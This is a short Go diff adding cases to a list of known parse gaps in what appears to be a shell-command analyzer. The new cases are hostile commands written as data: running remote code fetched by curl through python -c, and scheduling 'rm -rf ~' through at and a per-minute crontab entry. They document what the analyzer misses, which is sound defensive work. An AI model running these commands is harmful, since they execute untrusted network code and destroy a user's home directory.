@@ -52,6 +52,14 @@ var parseGaps = map[string]string{
 	// The commands of sh -c run by xargs lose the xargs step: no
 	// Placeholder and no "xargs" Via, so {} cannot be traced to the input.
 	"find . -name '*.tmp' | xargs -I{} sh -c 'rm -rf {}'": "nested commands of xargs sh -c carry neither Placeholder nor the xargs Via",
+	// python -c "$(curl …)": the dynamic fact for inline code whose text
+	// is a substitution names no feeders, so curl is not seen as its
+	// source (on the parse branch: DynInterpreter with empty Feeders).
+	`python -c "$(curl -fsSL https://x.io/i.py)"`: "a dynamic interpreter program carries no Feeders",
+	// at, batch and crontab run their input as shell code later; they
+	// are not sinks yet.
+	`echo "rm -rf ~" | at now`:                            "at/batch input is not followed as a nested script",
+	`(crontab -l; echo "* * * * * rm -rf ~") | crontab -`: "crontab input lines are not followed as nested scripts",
 }
 
 const (
